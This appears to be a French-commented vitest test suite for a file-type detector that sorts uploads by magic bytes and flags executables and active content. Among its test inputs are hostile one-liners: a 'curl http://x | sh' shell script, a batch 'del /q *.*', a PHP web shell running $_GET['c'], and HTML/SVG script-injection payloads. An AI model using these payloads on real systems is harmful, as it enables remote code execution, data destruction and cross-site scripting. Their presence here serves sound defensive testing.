import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { OCTETS_DETECTION, detecterTypeFichier } from "./detecter-type.js";
import { FAMILLES_FICHIERS } from "./familles.js";
import {
  HTML_APRES_ESPACES,
  JPEG_PUIS_HTML,
  MZ,
  PDF,
  PNG_1X1,
  SVG_APRES_DEUX_XML,
  SVG_DOCTYPE_INTERNE,
  concat,
  ftyp,
  hex,
  latin1,
  octets,
  ole,
  zip,
} from "./echantillons.test-utils.js";

const MIMETYPE_ODT = "application/vnd.oasis.opendocument.text";

describe("detecterTypeFichier — types acceptables", () => {
  it.each([
    ["PDF", PDF, "document", "application/pdf", "pdf"],
    [
      "RTF",
      octets("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Bonjour}"),
      "document",
      "application/rtf",
      "rtf",
    ],
    [
      "ODT (zip, première entrée mimetype)",
      zip([
        ["mimetype", MIMETYPE_ODT],
        ["content.xml", "<office/>"],
      ]),
      "document",
      MIMETYPE_ODT,
      "odt",
    ],
    [
      "ODS",
      zip([["mimetype", "application/vnd.oasis.opendocument.spreadsheet"]]),
      "document",
      "application/vnd.oasis.opendocument.spreadsheet",
      "ods",
    ],
    [
      "ODP",
      zip([["mimetype", "application/vnd.oasis.opendocument.presentation"]]),
      "document",
      "application/vnd.oasis.opendocument.presentation",
      "odp",
    ],
    [
      "DOCX",
      zip([
        ["[Content_Types].xml", "<Types/>"],
        ["_rels/.rels", "<Relationships/>"],
        ["word/document.xml", "<w:document/>"],
      ]),
      "document",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      "docx",
    ],
    [
      "XLSX",
      zip([
        ["[Content_Types].xml", "<Types/>"],
        ["xl/workbook.xml", "<workbook/>"],
      ]),
      "document",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      "xlsx",
    ],
    [
      "PPTX",
      zip([
        ["[Content_Types].xml", "<Types/>"],
        ["ppt/presentation.xml", "<p/>"],
      ]),
      "document",
      "application/vnd.openxmlformats-officedocument.presentationml.presentation",
      "pptx",
    ],
    ["DOC (OLE, flux WordDocument)", ole("WordDocument"), "document", "application/msword", "doc"],
    ["XLS (OLE, flux Workbook)", ole("Workbook"), "document", "application/vnd.ms-excel", "xls"],
    ["PPT (OLE)", ole("PowerPoint Document"), "document", "application/vnd.ms-powerpoint", "ppt"],
    [
      "OLE au répertoire lointain",
      hex("d0cf11e0a1b11ae1 0000000000000000"),
      "document",
      "application/x-ole-storage",
      "doc",
    ],
    [
      "texte UTF-8 accentué",
      octets("Rédaction : « Mon été à la mer »\r\n\tPremière partie…\n"),
      "document",
      "text/plain",
      "txt",
    ],
    ["texte avec BOM", concat(hex("efbbbf"), octets("Exposé")), "document", "text/plain", "txt"],
    // Restent du texte : balisage sans élément HTML ni contenu actif, ou « < » qui n'ouvre pas de balise.
    [
      "Markdown qui commence par un commentaire",
      octets("<!-- brouillon -->\n# Mon exposé\n\nLe <sujet> est vaste."),
      "document",
      "text/plain",
      "txt",
    ],
    [
      "données XML inertes",
      octets('<?xml version="1.0"?>\n<notes><note>12</note></notes>'),
      "document",
      "text/plain",
      "txt",
    ],
    ["« <3 » en tête", octets("<3 merci pour le cours"), "document", "text/plain", "txt"],
    // Un polyglotte JPEG puis HTML reste une image : c'est son nom `.html` que `verifierFichier` refuse.
    ["JPEG suivi de HTML", JPEG_PUIS_HTML, "image", "image/jpeg", "jpg"],
    [
      "texte coupé au milieu d'un caractère",
      octets("Élève é").subarray(0, 8),
      "document",
      "text/plain",
      "txt",
    ],
    ["PNG 1×1 complet", PNG_1X1, "image", "image/png", "png"],
    [
      "JPEG (JFIF)",
      concat(hex("ffd8ffe000104a46494600010100000100010000"), new Array<number>(20).fill(0)),
      "image",
      "image/jpeg",
      "jpg",
    ],
    [
      "JPEG (Exif, téléphone)",
      concat(hex("ffd8ffe1"), latin1("\x1c\x45Exif\x00\x00MM")),
      "image",
      "image/jpeg",
      "jpg",
    ],
    ["GIF89a", latin1("GIF89a\x01\x00\x01\x00\x80\x00\x00"), "image", "image/gif", "gif"],
    ["WebP", latin1("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00"), "image", "image/webp", "webp"],
    ["HEIC (iPhone)", ftyp("heic", "mif1", "miaf"), "image", "image/heic", "heic"],
    ["HEIF (mif1)", ftyp("mif1", "heic"), "image", "image/heif", "heif"],
    ["AVIF", ftyp("avif", "mif1"), "image", "image/avif", "avif"],
    [
      "BMP",
      concat(
        latin1("BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"),
        new Array<number>(40).fill(0),
      ),
      "image",
      "image/bmp",
      "bmp",
    ],
    ["MP3 avec ID3", latin1("ID3\x04\x00\x00\x00\x00\x00\x23TSSE"), "audio", "audio/mpeg", "mp3"],
    ["MP3 sans ID3 (synchro de trame)", hex("fffb9064 00000000"), "audio", "audio/mpeg", "mp3"],
    ["AAC ADTS", hex("fff15080 2bfffc"), "audio", "audio/aac", "aac"],
    ["WAV", latin1("RIFF\x24\x08\x00\x00WAVEfmt \x10\x00\x00\x00"), "audio", "audio/wav", "wav"],
    [
      "OGG Vorbis",
      concat(latin1("OggS\x00\x02"), new Array<number>(22).fill(0), latin1("\x01vorbis")),
      "audio",
      "audio/ogg",
      "ogg",
    ],
    [
      "OGG Opus (WhatsApp)",
      concat(latin1("OggS\x00\x02"), new Array<number>(22).fill(0), latin1("OpusHead\x01\x02")),
      "audio",
      "audio/ogg",
      "opus",
    ],
    ["FLAC", latin1("fLaC\x00\x00\x00\x22"), "audio", "audio/flac", "flac"],
    ["M4A (mémo vocal)", ftyp("M4A ", "isom", "mp42"), "audio", "audio/mp4", "m4a"],
    ["AMR (ancien téléphone)", latin1("#!AMR\n\x3c\x91"), "audio", "audio/amr", "amr"],
    [
      "WebM audio (MediaRecorder)",
      concat(hex("1a45dfa3 9f 4282 84"), latin1("webm"), latin1("\x00\x00\x00A_OPUS")),
      "audio",
      "audio/webm",
      "webm",
    ],
    [
      "WebM vidéo",
      concat(hex("1a45dfa3 9f 4282 84"), latin1("webm"), latin1("\x00V_VP9\x00A_OPUS")),
      "video",
      "video/webm",
      "webm",
    ],
    ["Matroska", concat(hex("1a45dfa3 a3 4282 88"), latin1("matroska")), "video", "video/x-matroska", "mkv"],
    ["MP4", ftyp("isom", "iso2", "avc1", "mp41"), "video", "video/mp4", "mp4"],
    ["MP4 (mp42)", ftyp("mp42", "isom"), "video", "video/mp4", "mp4"],
    ["MOV (iPhone)", ftyp("qt  "), "video", "video/quicktime", "mov"],
    ["3GP", ftyp("3gp5", "3gp5", "isom"), "video", "video/3gpp", "3gp"],
    ["AVI", latin1("RIFF\x00\x10\x00\x00AVI LIST"), "video", "video/x-msvideo", "avi"],
    [
      "OGG Theora",
      concat(latin1("OggS\x00\x02"), new Array<number>(22).fill(0), latin1("\x80theora")),
      "video",
      "video/ogg",
      "ogv",
    ],
  ] as const)("%s", (_cas, debut, famille, mime, extension) => {
    expect(detecterTypeFichier(debut)).toEqual({ famille, mime, extension });
  });
});

describe("detecterTypeFichier — exécutables et contenus actifs", () => {
  it.each([
    ["programme Windows renommé en .pdf (MZ)", MZ, "programme", "pe"],
    ["ELF (Linux)", hex("7f454c46 02010100"), "programme", "elf"],
    ["Mach-O 64 bits", hex("cffaedfe 07000001"), "programme", "mach-o"],
    ["Mach-O universel / classe Java", hex("cafebabe 00000002"), "programme", "mach-o-universel-ou-java"],
    ["DEX Android", latin1("dex\n035\x00"), "programme", "dex"],
    ["WebAssembly", hex("0061736d 01000000"), "programme", "wasm"],
    [
      "installeur MSI (OLE, CLSID Windows Installer)",
      concat(ole("x"), hex("84100c0000000000c000000000000046")),
      "programme",
      "msi",
    ],
    [
      "JAR (zip + META-INF/MANIFEST.MF)",
      zip([["META-INF/MANIFEST.MF", "Main-Class: X"]]),
      "programme",
      "jar",
    ],
    [
      "APK (zip + classes.dex)",
      zip([
        ["AndroidManifest.xml", ""],
        ["classes.dex", "dex\n"],
      ]),
      "programme",
      "apk",
    ],
    ["script shell", octets("#!/bin/sh\ncurl http://x | sh\n"), "script", "shebang"],
    ["script batch", octets("@echo off\r\ndel /q *.*\r\n"), "script", "batch"],
    ["PHP", octets("<?php system($_GET['c']); ?>"), "script", "php"],
    [
      "page HTML",
      octets("<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>"),
      "page-web",
      "html",
    ],
    ["HTML sans doctype", octets("  <script src=x></script>"), "page-web", "html"],
    [
      "SVG avec script",
      octets(
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      ),
      "svg",
      "svg",
    ],
    ["SVG simple", octets("<svg viewBox='0 0 1 1'></svg>"), "svg", "svg"],
    // Issue 9, constat 10 : contenus actifs qui passaient pour du texte.
    ["HTML « <p> », 5 000 espaces puis <html><script>", HTML_APRES_ESPACES, "page-web", "html"],
    ["SVG après deux instructions <?xml …?>", SVG_APRES_DEUX_XML, "svg", "svg"],
    ["SVG dont le DOCTYPE a un sous-ensemble interne", SVG_DOCTYPE_INTERNE, "svg", "svg"],
    ["SVG préfixé (<svg:svg>)", octets('<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>'), "svg", "svg"],
    ["fragment HTML <div>", octets("<div>Bonjour</div>"), "page-web", "html"],
    [
      "XML dont un élément est un script XHTML",
      octets(
        '<?xml version="1.0"?>\n<a><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script></a>',
      ),
      "page-web",
      "html",
    ],
    ["XML avec un attribut on…=", octets('<note><x onclick="alert(1)"/></note>'), "page-web", "html"],
    ["PHP après une déclaration XML", octets('<?xml version="1.0"?><?php system("id"); ?>'), "script", "php"],
  ] as const)("%s", (_cas, debut, nature, format) => {
    expect(detecterTypeFichier(debut)).toEqual({ famille: "executable", nature, format });
  });
});

describe("detecterTypeFichier — prologues fabriqués", () => {
  // Un prologue XML tronqué dont les pièces pourraient se chevaucher faisait boucler la regex (retour en
  // arrière exponentiel) : chaque cas doit répondre vite, sur les 4 100 octets examinés.
  it.each([
    ["PI, commentaire, DOCTYPE répétés", "<?a?><!--b--><!doctype c [<!x>]> ".repeat(120)],
    ["PI et commentaires collés", "<?a?><!--b-->".repeat(400)],
    ["balises sans chevron fermant", "<x>" + "<y".repeat(2040)],
  ])("%s : moins de 200 ms", (_cas, texte) => {
    const debut = performance.now();
    detecterTypeFichier(octets(texte));
    expect(performance.now() - debut).toBeLessThan(200);
  });
});

describe("detecterTypeFichier — inconnus et entrées limites", () => {
  it.each([
    ["entrée vide", new Uint8Array(0)],
    ["un seul octet binaire", hex("00")],
    ["zip quelconque", zip([["photos/vacances.jpg", "xx"]])],
    ["zip dont mimetype est inconnu", zip([["mimetype", "application/x-inconnu"]])],
    ["texte Latin-1 (pas de l'UTF-8)", latin1("R\xe9daction de fran\xe7ais")],
    ["texte avec octet nul", latin1("abc\x00def")],
    ["texte avec caractère de contrôle", latin1("abc\x1bdef")],
    ["ftyp de marque inconnue", ftyp("zzzz")],
    ["RIFF inconnu", latin1("RIFF\x00\x00\x00\x00XXXX")],
    ["octets aléatoires fixes", hex("13 37 c0 de 0b ad f0 0d")],
  ])("%s → null", (_cas, debut) => {
    expect(detecterTypeFichier(debut)).toBeNull();
  });

  it("n'examine que OCTETS_DETECTION octets (4100) : un marqueur plus loin est ignoré", () => {
    expect(OCTETS_DETECTION).toBe(4100);
    const loin = concat(
      zip([["[Content_Types].xml", "x".repeat(OCTETS_DETECTION)]]),
      zip([["word/document.xml", ""]]),
    );
    expect(detecterTypeFichier(loin)).toBeNull();
    const proche = concat(zip([["[Content_Types].xml", "x".repeat(100)]]), zip([["word/document.xml", ""]]));
    expect(detecterTypeFichier(proche)).toMatchObject({ extension: "docx" });
  });

  it("reconnaît sur des débuts tronqués sans lever (PNG réduit à sa signature, PDF à « %PDF- »)", () => {
    expect(detecterTypeFichier(PNG_1X1.subarray(0, 8))).toMatchObject({ mime: "image/png" });
    expect(detecterTypeFichier(PDF.subarray(0, 5))).toMatchObject({ mime: "application/pdf" });
    for (let n = 0; n <= 16; n++)
      expect(() => detecterTypeFichier(ftyp("heic").subarray(0, n))).not.toThrow();
  });

  it("propriété : des octets aléatoires ne font jamais lever, et le résultat a toujours une forme valide", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 5000 }), (debut) => {
        const r = detecterTypeFichier(debut);
        if (r === null) return;
        if (r.famille === "executable")
          expect(["programme", "script", "page-web", "svg"]).toContain(r.nature);
        else {
          expect(FAMILLES_FICHIERS).toContain(r.famille);
          expect(r.mime).toMatch(/^[a-z]+\/[\w.+-]+$/);
          expect(r.extension).toMatch(/^[a-z0-9]+$/);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("propriété : des débuts de fichiers connus suivis d'octets aléatoires ne font jamais lever", () => {
    const entetes = [
      PDF,
      PNG_1X1,
      MZ,
      ole("WordDocument"),
      zip([["mimetype", MIMETYPE_ODT]]),
      ftyp("heic"),
      hex("1a45dfa3"),
      latin1("OggS"),
      latin1("RIFF"),
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...entetes),
        fc.nat(),
        fc.uint8Array({ maxLength: 300 }),
        (entete, coupe, suite) => {
          expect(() =>
            detecterTypeFichier(concat(entete.subarray(0, coupe % (entete.length + 1)), suite)),
          ).not.toThrow();
        },
      ),
    );
  });
});
